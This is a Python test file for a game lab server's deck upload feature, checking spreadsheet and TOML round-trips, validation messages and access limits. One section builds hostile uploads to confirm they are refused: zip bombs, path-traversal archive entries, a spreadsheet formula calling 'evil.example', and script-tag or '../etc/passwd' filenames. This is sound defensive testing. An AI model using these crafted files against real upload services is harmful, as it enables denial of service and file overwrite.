"""Decks in the browser: taken along as sheets, brought back, seen card by card, refused cell by cell, played."""

import io
import os
from collections.abc import Sequence
from pathlib import Path
from typing import Any
from zipfile import ZIP_DEFLATED, ZipFile

import pytest
from openpyxl import Workbook, load_workbook
from tests.server.guests import Browser, HouseForTests, Page, house_for_tests, sentence
from tests.server.lab_studies import GAME
from tests.server.pages.lab.test_lab_pages import links, page

import smorgasboard as sb
from smorgasboard.server.live import new_match
from smorgasboard.server.pages.lab import deck_shelf
from smorgasboard.server.pages.lab.commands import USUAL
from smorgasboard.server.pages.lab.deck_shelf import Deck
from smorgasboard.server.settings import LabRules

pytestmark = pytest.mark.anyio
DECKS = f"/lab/decks/{GAME}"
Change = tuple[str, str, str, Any]
"""Sheet, what stands in the row, the column's name, the new value."""
CHEAP: Change = ("teams.powers", "sizzle", "price", 2)


async def sheet(house: HouseForTests, game: str = GAME) -> bytes:
    answer = await house.browser().get(f"/lab/decks/{game}.xlsx")
    assert answer.status_code == 200
    assert f'filename="{game.replace(":", "-")}.xlsx"' in answer.headers["content-disposition"]
    return answer.content


def changed(data: bytes, changes: Sequence[Change]) -> bytes:
    book = load_workbook(io.BytesIO(data))
    for name, row, head, value in changes:
        table = book[name]
        heads = [cell.value for cell in table[1]]
        at = next(number for number, cells in enumerate(table.values, 1) if row in cells)
        table.cell(at, heads.index(head) + 1).value = value
    return saved(book)


def saved(book: Workbook) -> bytes:
    packed = io.BytesIO()
    book.save(packed)
    return packed.getvalue()


async def bring(ann: Browser, data: bytes, name: str = "mine.xlsx", to: str = DECKS) -> Any:
    return await ann.http.post(to, files={"file": (name, data, "application/octet-stream")})


async def brought(house: HouseForTests, *changes: Change, name: str = "mine.xlsx") -> str:
    """The address of a deck."""
    answer = await bring(house.browser(), changed(await sheet(house), changes), name)
    assert answer.status_code == 303, sentence(answer)
    return str(answer.headers["location"])


# ---- there and back ----


@pytest.mark.parametrize("kind", [".xlsx", ".csv.zip", ".toml"])
async def test_what_is_taken_along_comes_back_as_the_same_deck(house: HouseForTests, lab: Path, kind: str) -> None:
    taken = await house.browser().get(f"{DECKS}{kind}")
    answer = await bring(house.browser(), taken.content, f"mine{kind}")
    assert answer.status_code == 303, sentence(answer)
    found = await page(house, answer.headers["location"])
    assert "All as printed" in found.text
    again = await house.browser().get(f"{answer.headers['location']}{kind}")
    assert again.status_code == 200
    text = (await house.browser().get(f"{answer.headers['location']}.toml")).text
    assert Deck(GAME, "", text).load().content_hash == sb.load(GAME).content_hash


async def test_a_changed_deck_shows_every_card_and_what_changed(house: HouseForTests, lab: Path) -> None:
    url = await brought(house, CHEAP, ("single values", "beans", "value", 40), name="Cheap meats.xlsx")
    found = await page(house, url)
    assert "Cheap meats" in found.text
    assert "2 things are not as printed" in found.text
    assert "Sizzle!: price 8 → 2" in found.text
    assert "beans 30 → 40" in found.text
    titles = [say for part in sb.load(GAME).deck() for card in part.cards for say in [card.title]]
    assert all(title in found.text for title in titles)
    compare = next(link for link in links(found) if "teams.meats.powers.sizzle.price" in link)
    form = await page(house, compare)
    assert any(facts.get("value") == "2" and facts.get("name") == "value" for facts in form.all("input"))


async def test_one_sheet_alone_changes_the_printed_deck(house: HouseForTests, lab: Path) -> None:
    packed = await house.browser().get(f"{DECKS}.csv.zip")
    with ZipFile(io.BytesIO(packed.content)) as archive:
        powers = archive.read("teams.powers.csv").decode("utf-8-sig").replace("Sizzle!,8", "Sizzle!,3")
    answer = await bring(house.browser(), powers.encode(), "teams.powers.csv")
    assert answer.status_code == 303, sentence(answer)
    assert "Sizzle!: price 8 → 3" in (await page(house, answer.headers["location"])).text
    unknown = await bring(house.browser(), b"name,price\n", "prices.csv")
    assert unknown.status_code == 400
    assert "like none of the sheets" in unknown.text


@pytest.mark.parametrize("game", ["consumption:thought", "foodadvice:standard"])
async def test_the_other_games_cards_are_drawn_too(house: HouseForTests, lab: Path, game: str) -> None:
    found = await page(house, f"/lab/decks/{game}")
    assert all(card.title in found.text for part in sb.load(game).deck() for card in part.cards)
    answer = await bring(house.browser(), await sheet(house, game), to=f"/lab/decks/{game}")
    assert "All as printed" in (await page(house, answer.headers["location"])).text


# ---- what does not fit ----


async def test_each_problem_stands_beside_its_cell(house: HouseForTests, lab: Path) -> None:
    wrong = [("teams.powers", "sizzle", "price", "cheap"), ("teams.powers", "boost", "use", "always"),
             ("single values", "beans", "value", -3), ("teams.fighters", "onion", "thinks", "[bacon")]  # fmt: skip
    answer = await bring(house.browser(), changed(await sheet(house), wrong))
    assert answer.status_code == 400
    found = Page.read(answer.text)
    assert "4 things do not fit yet" in found.text
    for words in ("Sheet teams.powers", "cheap", "expected a whole number from 0 to 1000000, found 'cheap'",
                  "always", "expected one of one-use, multi-use, long-term", "-3", "a list is not closed"):  # fmt: skip
        assert words in found.text
    assert answer.text.count('class="bad"') == 4
    assert not (lab / deck_shelf.FOLDER).exists()


async def test_problems_of_a_text_have_their_lines(house: HouseForTests, lab: Path) -> None:
    text = sb.load(GAME).whole_content().replace("beans = 30", "beans = -1").replace("stock = 3", 'stock = "few"')
    answer = await bring(house.browser(), text.encode(), "mine.toml")
    for line, what in enumerate(text.splitlines(), 1):
        if what in ("beans = -1", 'stock = "few"'):
            assert f"Line {line}:" in Page.read(answer.text).text
    broken = await bring(house.browser(), b"beans = ", "mine.toml")
    assert "not valid TOML" in broken.text


def bomb() -> bytes:
    packed = io.BytesIO()
    with ZipFile(packed, "w", ZIP_DEFLATED) as archive:
        for number in range(6):
            archive.writestr(f"{number}.csv", b"0" * 10_000_000)
    return packed.getvalue()


def workbook_bomb() -> bytes:
    packed = io.BytesIO()
    with ZipFile(packed, "w", ZIP_DEFLATED) as archive:
        archive.writestr("xl/workbook.xml", b" " * 60_000_000)
    return packed.getvalue()


def climbing() -> bytes:
    packed = io.BytesIO()
    with ZipFile(packed, "w") as archive:
        archive.writestr("../../../single values.csv", "name,value\nbeans,-5\n")
        archive.writestr("/etc/teams.csv", "name\n")
    return packed.getvalue()


def tall() -> bytes:
    book = Workbook()
    table = book.worksheets[0]
    table.title = "single values"
    table.append(["name", "value"])
    table.cell(6000, 1).value = "beans"
    return saved(book)


def formula() -> bytes:
    book = Workbook()
    book.worksheets[0].title = "single values"
    book.worksheets[0].append(["name", "value"])
    book.worksheets[0].append(["beans", '=WEBSERVICE("http://evil.example")'])
    return saved(book)


@pytest.mark.parametrize(
    ("data", "name", "words"),
    [
        (bomb(), "bomb.zip", "unpacks to too much"),
        (workbook_bomb(), "bomb.xlsx", "unpacks to too much"),
        (climbing(), "climb.zip", "fit yet"),
        (tall(), "tall.xlsx", "expected at most 5000 rows"),
        (formula(), "formula.xlsx", "a formula without a result"),
        (b"PK\x03\x04 and then nothing", "cut.xlsx", "or it is damaged"),
        (b"\x89PNG\xff\xfe", "box.png", "nor a text file"),
        (b"", "empty.toml", "fit yet"),
        (b"[" * 5000, "deep.toml", "fit yet"),
    ],
)
async def test_hostile_files_are_refused_in_a_sentence(
    house: HouseForTests, lab: Path, data: bytes, name: str, words: str
) -> None:
    answer = await bring(house.browser(), data, name)
    assert answer.status_code == 400
    assert words in Page.read(answer.text).text
    assert "Traceback" not in answer.text
    assert not (lab.parent.parent / "single values.csv").exists()


async def test_names_are_shown_as_words_and_lead_nowhere(house: HouseForTests, lab: Path) -> None:
    for name in (
        "../../etc/passwd.xlsx",
        '<script>alert(1)</script>".xlsx',
        "x" * 500 + ".xlsx",
        "\u202egnp.xlsx",
        ".xlsx",
    ):
        answer = await bring(house.browser(), await sheet(house), name)
        assert answer.status_code == 303, name
        shown = await house.browser().get(answer.headers["location"])
        assert "<script>alert" not in shown.text
        assert "/etc" not in shown.text
        taken = await house.browser().get(f"{answer.headers['location']}.toml")
        assert taken.headers["content-disposition"].startswith('attachment; filename="foodfighters-classic-')
    assert {file.suffix for file in (lab / deck_shelf.FOLDER).iterdir()} == {".json", ".toml"}


async def test_a_deck_of_another_game_is_none_of_this_one(house: HouseForTests, lab: Path) -> None:
    foreign = await sheet(house, "consumption:thought")
    refused = await bring(house.browser(), foreign)
    assert refused.status_code == 400
    url = await brought(house, CHEAP)
    number = url.rpartition("/")[2]
    for path in (
        f"/lab/decks/consumption:thought/{number}",
        f"{DECKS}/{number[:-1]}",
        f"{DECKS}/..%2f..",
        f"{DECKS}/0",
    ):
        assert (await house.browser().get(path)).status_code == 404, path
    assert (await house.browser().get("/lab/decks/ludo")).status_code == 404
    assert (await house.browser().get("/lab/decks/ludo.xlsx")).status_code == 404


# ---- who may, and how long it is kept ----


async def test_where_the_host_says_so_nobody_brings_decks(tmp_path: Path, lab: Path) -> None:
    async with house_for_tests(tmp_path, lab=LabRules(open=False)) as house:
        data = await sheet(house)
        found = await page(house, DECKS)
        assert DECKS not in found.forms
        assert "by the host alone" in found.text
        answer = await bring(house.browser(), data)
        assert answer.status_code == 403
        assert not lab.exists()


async def test_other_sites_bring_nothing(house: HouseForTests, lab: Path) -> None:
    files = {"file": ("mine.xlsx", await sheet(house), "application/octet-stream")}
    answer = await house.browser().http.post(DECKS, files=files, headers={"sec-fetch-site": "cross-site"})
    assert answer.status_code == 403


async def test_decks_outlive_the_house_and_make_room(
    tmp_path: Path, lab: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(deck_shelf, "MOST_KEPT", 2)
    ages = iter(range(1, 100))
    monkeypatch.setattr(deck_shelf, "_age", lambda file: known.setdefault(file, next(ages)))
    known: dict[Path, int] = {}
    async with house_for_tests(tmp_path) as house:
        urls = [await brought(house, ("single values", "beans", "value", beans)) for beans in (31, 32, 33)]
    async with house_for_tests(tmp_path) as house:
        states = [(await house.browser().get(url)).status_code for url in urls]
    assert states == [404, 200, 200]


async def test_a_full_disk_keeps_nothing_and_says_so(
    house: HouseForTests, lab: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def full(*_: object) -> None:
        raise OSError(28, "No space left on device")

    data = await sheet(house)
    monkeypatch.setattr(os, "replace", full)
    answer = await bring(house.browser(), data)
    assert answer.status_code == 400
    assert "cannot be written just now" in answer.text
    assert not list((lab / deck_shelf.FOLDER).iterdir())


async def test_a_deck_is_played_with_its_own_cards(house: HouseForTests, lab: Path) -> None:
    url = await brought(house, ("single values", "beans", "value", 12))
    ann = house.browser()
    await ann.get("/")
    table = await house.table(await ann.opened(f"{url.lstrip('/')}/play", level="easy"))
    assert "12 Beans" in (await page(house, f"/m/{table.id}")).text
    kept = await house.house.store.content(table.row.game, table.row.content)
    assert kept is not None
    assert "beans = 12" in kept
    rematch = new_match.again(table)
    assert (rematch.game.content_hash, rematch.row.setup["deck"]) == (table.row.content, "mine")


def test_no_option_of_a_game_is_called_like_a_field_of_the_form() -> None:
    fields = {*USUAL, "command", "game", "players", "games", "also", "file", "move", "move_range", "hold"}
    assert not [option.name for game in sb.games() for option in game.options if option.name in fields]


async def test_a_study_of_a_deck_can_be_begun_from_its_page(house: HouseForTests, lab: Path) -> None:
    url = await brought(house, CHEAP)
    found = await page(house, url)
    number = url.rpartition("/")[2]
    for command in ("run", "compare"):
        assert f"/lab?game=foodfighters%3Aclassic&command={command}&deck={number}" in links(found)
        form = await page(house, f"/lab?game={GAME}&command={command}&deck={number}")
        chosen = [facts["value"] for facts in form.all("option") if "selected" in facts]
        assert number in chosen
    assert "Sizzle!: price (2)" in form.text
